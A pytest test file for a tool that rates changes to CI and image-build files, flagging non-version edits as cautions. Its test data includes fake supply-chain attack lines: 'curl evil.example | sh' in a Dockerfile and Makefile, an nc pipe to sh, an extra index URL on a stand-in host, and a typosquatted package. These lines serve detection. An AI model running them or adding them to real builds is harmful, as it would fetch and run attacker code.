"""Changes to the files by which continuous integration runs, and of those that images are built from."""

import re
import time
from pathlib import PurePosixPath

import pytest

from tpucfg.changes.facts import Risk
from tpucfg.changes.repository_changes import build_paths, build_statements, ci_paths, ci_statements


def test_changed_files_are_one_caution() -> None:
    """Whatever a file contains, and however it is written, a reader has to look at it."""
    (located,) = ci_statements(
        [PurePosixPath(".github/workflows/a.yml"), PurePosixPath("Jenkinsfile")]
    )
    assert located.statement.risk is Risk.UNKNOWN
    assert located.plain.startswith(
        ".github/workflows/a.yml, Jenkinsfile changed: continuous integration or "
    )
    assert [*ci_statements([])] == []


def test_what_is_hidden_at_the_root_counts_unless_it_is_harmless() -> None:
    """No list of services is complete, so each hidden file counts; other names only where a service reads them."""
    counted = [
        ".github",
        ".azuredevops",
        ".teamcity",
        ".pre-commit-config.yaml",
        ".gitmodules",
        ".vscode",
        ".envrc",
    ]
    named = [
        "Jenkinsfile",
        "ci/azure-pipelines.yml",
        "appveyor.yml",
        "docs/CODEOWNERS",
        "tools/x/action.yml",
        "a/.gitattributes",
    ]
    files = [f"{name}/a/b" if "." not in name[1:] else name for name in counted] + named
    assert {*map(str, ci_paths([*map(PurePosixPath, files)]))} == {*counted, *named}

    others = [
        ".gitignore",
        ".editorconfig",
        "README.md",
        "trainer/model.py",
        "trainer/.gitkeep",
        "docs/actions.md",
        "data/pipeline.yaml",
    ]
    assert ci_paths([*map(PurePosixPath, others)]) == ()


def test_those_who_approve_have_a_caution_of_their_own() -> None:
    """CODEOWNERS runs nothing."""
    (located,) = ci_statements([PurePosixPath(".github/CODEOWNERS")])
    assert located.plain == ".github/CODEOWNERS changed: it decides who has to approve a change"
    assert located.statement.risk is Risk.UNKNOWN


def test_files_of_images_are_found_by_name() -> None:
    """Files that `docker build` and installers of packages read count, and scripts, in any folder."""
    built = (
        *(
            "trainer/Dockerfile",
            "gpu.Dockerfile",
            "Dockerfile.dev",
            "a/requirements.txt",
            "requirements/base.in",
            "b.sh",
        ),
        *(
            "pyproject.toml",
            "uv.lock",
            "compose.yaml",
            "dev-requirements.txt",
            "constraints.txt",
            "Makefile",
            "justfile",
        ),
    )
    others = ("README.md", "trainer/train.py", "tpucfg.yaml", "data/words.txt")
    assert {*map(str, build_paths(map(PurePosixPath, (*built, *others))))} == {*built}


_SENTENCE = "Dockerfile changed: what is built or run with it differs from now on"
_HASHES = ("a" * 64, "b" * 64)


@pytest.mark.parametrize(
    ("old", "new", "texts"),
    [
        ("jax==0.10.2\n", "jax==0.10.3\n", "adds jax==0.10.3 and drops jax==0.10.2"),
        (
            "jax==0.9 \\\n  --hash=sha256:9f\n",
            "jax==0.10 \\\n  --hash=sha256:8e \\\n  --hash=sha256:7d\n",
            "adds jax==0.10 \\ and drops jax==0.9 \\",
        ),
        (
            "FROM python:3.11-slim\n",
            "FROM python:3.12-slim\n",
            "adds FROM python:3.12-slim and drops …",
        ),
        (
            "RUN apt-get install x=7.8-10+deb12u5\n",
            "RUN apt-get install x=7.9-1+deb12u6\n",
            "adds …",
        ),
        ("x @ https://h.example/v1.0/x.whl\n", "x @ https://h.example/v1.1/x.whl\n", "adds x @ …"),
        (f"FROM a:1@sha256:{_HASHES[1]}\n", f"FROM a:1@sha256:{_HASHES[0]}\n", "adds …"),
        (
            f'{{ url = "https://i.example/ab/cd/{_HASHES[0]}/a-1.0-cp311-cp311-x86_64.whl", size = 1 }},\n',
            "".join(
                f'{{ url = "https://i.example/ef/01/{_HASHES[1]}/a-1.1-{python}-{python}-x86_64.whl", size = 2 }},\n'
                for python in ("cp311", "cp312")
            ),
            "adds …",
        ),
        ("jax\n", "# the tokenizer's\njax\n", ""),
    ],
)
def test_newer_versions_are_a_change(old: str, new: str, texts: str) -> None:
    """The lines are seen without opening the file, and are no risk."""
    file = PurePosixPath("Dockerfile")
    first, *more = build_statements([file], (), {file: old.encode()}, {file: new.encode()})
    assert (first.plain, first.statement.risk) == (_SENTENCE, Risk.NONE)
    assert [located.statement.risk for located in more] == [Risk.NONE] * bool(texts)
    assert all(
        located.plain.startswith(f"Dockerfile {texts.partition('…')[0]}") for located in more
    )


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("jax\n", "--extra-index-url https://evil.example/simple\njax\n"),
        ("jax\n", "jax @ git+ssh://git@evil.example/x\n"),
        ("jax==1.0\n", "jax\n"),
        ("jax==1.1\n", "jax==1.0\n"),
        ("jax==1.0 --hash=sha256:9f\n", "jax==1.0 --hash=sha256:8e\n"),
        ("A=1 x\n", "A=1\x0b#;curl evil.example|sh\n"),
        ("h5py\n", "h6py\n"),
        ("jax\n", "jax @ file:///app/jax.whl\n"),
        ("dependencies = [\n'jax',\n]", "dependencies = [\n'jax',\n'evil',\n]"),
        ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n"),
        ("RUN nc 192.0.2.3 80 | sh\n", "RUN nc 192.0.2.4 80 | sh\n"),
        ("USER 1000\n", "USER 0\n"),
        ("FROM a:1.0\n", "FROM a:1.0-evil\n"),
        ("FROM python\n", "FROM python-evil\n"),
        ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n"),
        ("FROM \\\n  own/python:3\n", "FROM \\\n  evil/python:3\n"),
        ("FROM a\n", "# syntax=evil/dockerfile:1\nFROM a\n"),
        ("#!/bin/sh\n", "#!/tmp/sh\n"),
        ("a:\n", "a:\n\t# $(shell curl evil.example | sh)\n"),
        ("a\nb\n", "a \\\nb\n"),
        ("FROM a\n", "FROM a\nRUN apt-get install evil=1.0\n"),
    ],
)
def test_more_than_newer_versions_is_a_caution(old: str, new: str) -> None:
    """Whatever it installs, runs or names, its code is in the image; the line itself is shown."""
    file = PurePosixPath("Dockerfile")
    _, located = build_statements([file], (), {file: old.encode()}, {file: new.encode()})
    assert located.statement.risk is Risk.CAUTION
    assert re.match(r"Dockerfile adds .*: more than newer versions$", located.plain)
    assert located.statement.values[1].strip() in new


@pytest.mark.parametrize(
    ("new", "words"),
    [
        ("a\nUSER x\n", "drops b"),
        ("b\na\nUSER x\n", "has other hashes, or its lines in another order"),
        ("", "drops a, b, USER x"),
    ],
)
def test_lines_that_are_gone_or_moved_are_a_caution(new: str, words: str) -> None:
    """The dropped line may be a check, a user without rights, or the only place for packages."""
    file = PurePosixPath("build.sh")
    _, located = build_statements(
        [file], (), {file: b"a\nb\nUSER x\n"}, {file: new.encode()} if new else {}
    )
    assert located.plain == f"build.sh {words}: more than newer versions"
    assert located.statement.risk is Risk.CAUTION


def test_what_is_new_is_shown_first() -> None:
    """Lists are cut, and newer versions are of less interest."""
    file = PurePosixPath("r.txt")
    old, new = ("".join(f"p{letter}=={number}.0\n" for letter in "abcdef") for number in (1, 2))
    _, located = build_statements(
        [file], (), {file: old.encode()}, {file: f"{new}evil==1.0\n".encode()}
    )
    assert located.statement.values[:2] == ("r.txt", "evil==1.0")
    assert " and 3 more and drops " in located.plain


@pytest.mark.parametrize(
    ("line", "address"),
    [
        ("URL = 'https://github.com/evil/a/x'", "https://github.com/evil"),
        ("run(['curl', 'evil.example/x'])", "evil.example"),
        ("HOST = '192.0.2.3'", "192.0.2.3"),
        ("# https://arxiv.org/abs/1706.02677", ""),
        ("x = train(batch=8) // np.pi", ""),
        ("URL = 'https://github.com/own/b'", ""),
    ],
)
def test_a_program_in_an_image_is_compared_by_its_addresses(line: str, address: str) -> None:
    """The code of a program changes every day; where it gets other code and data does not."""
    file, base = (
        PurePosixPath("train/train.py"),
        {PurePosixPath("Dockerfile"): b"ADD https://github.com/own/a/x /\n"},
    )
    _, *more = build_statements([file], [file], base, {file: f"{line}\n".encode()})
    risky = [located.plain for located in more if located.statement.risk]
    assert risky == [f"train/train.py adds {address}: it is new to what is built"] * bool(address)


def test_a_file_of_an_image_that_cannot_be_read_is_a_caution() -> None:
    """A link, a file above the limit, or one that is no text hides where code comes from."""
    file = PurePosixPath("Dockerfile")
    assert [item.statement.risk for item in build_statements([file], (), {}, {file: None})] == [
        Risk.NONE,
        Risk.CAUTION,
    ]
    assert [item.statement.risk for item in build_statements([file], (), {}, {file: b"\0"})] == [
        Risk.NONE,
        Risk.CAUTION,
    ]
    packages = PurePosixPath("requirements.txt")
    _, *more = build_statements([packages], (), {packages: b"jax\n"}, {packages: None})
    assert [item.statement.risk for item in more] == [Risk.CAUTION]


@pytest.mark.slow
@pytest.mark.parametrize("text", [" ", "1.", "1.1-1", "a.", "//a", " --hash=a", "-cp1", "\\ "])
def test_a_long_line_takes_linear_time(text: str) -> None:
    """A quarter of a megabyte on one line is read within seconds."""
    file = PurePosixPath("a.lock")
    line = text * (250_000 // len(text))
    start = time.process_time()
    assert len([*build_statements([file], (), {}, {file: f"{line}x".encode()})]) == 2
    assert time.process_time() - start < 4
